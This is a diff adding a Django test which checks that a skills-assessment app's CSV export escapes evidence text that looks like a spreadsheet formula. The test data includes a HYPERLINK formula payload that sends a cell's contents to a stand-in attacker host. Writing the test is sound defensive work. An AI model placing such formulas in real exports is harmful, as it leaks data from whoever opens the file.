@@ -113,3 +113,22 @@ def test_export_queries_do_not_grow_with_history(client, rated, max_, name):
     with CaptureQueriesContext(connection) as after:
         client.get(reverse(name))
     assert len(after) == len(before)
+
+
+def test_evidence_that_looks_like_a_formula_stays_text_in_the_csv(client, erin, max_):
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"proof")'
+    from assessments.services import assessment_start, assessment_submit
+
+    draft = assessment_start(
+        by=max_,
+        person=erin,
+        kind="manager",
+        ratings=[{"skill": "system-design", "level": 2, "evidence": evil}],
+    )
+    assessment_submit(by=max_, assessment=draft)
+    client.force_login(erin)
+
+    rows = list(csv.DictReader(io.StringIO(client.get(reverse("my_map_csv")).content.decode())))
+
+    design = next(r for r in rows if r["skill"] == "system-design")
+    assert design["manager_evidence"] == "'" + evil
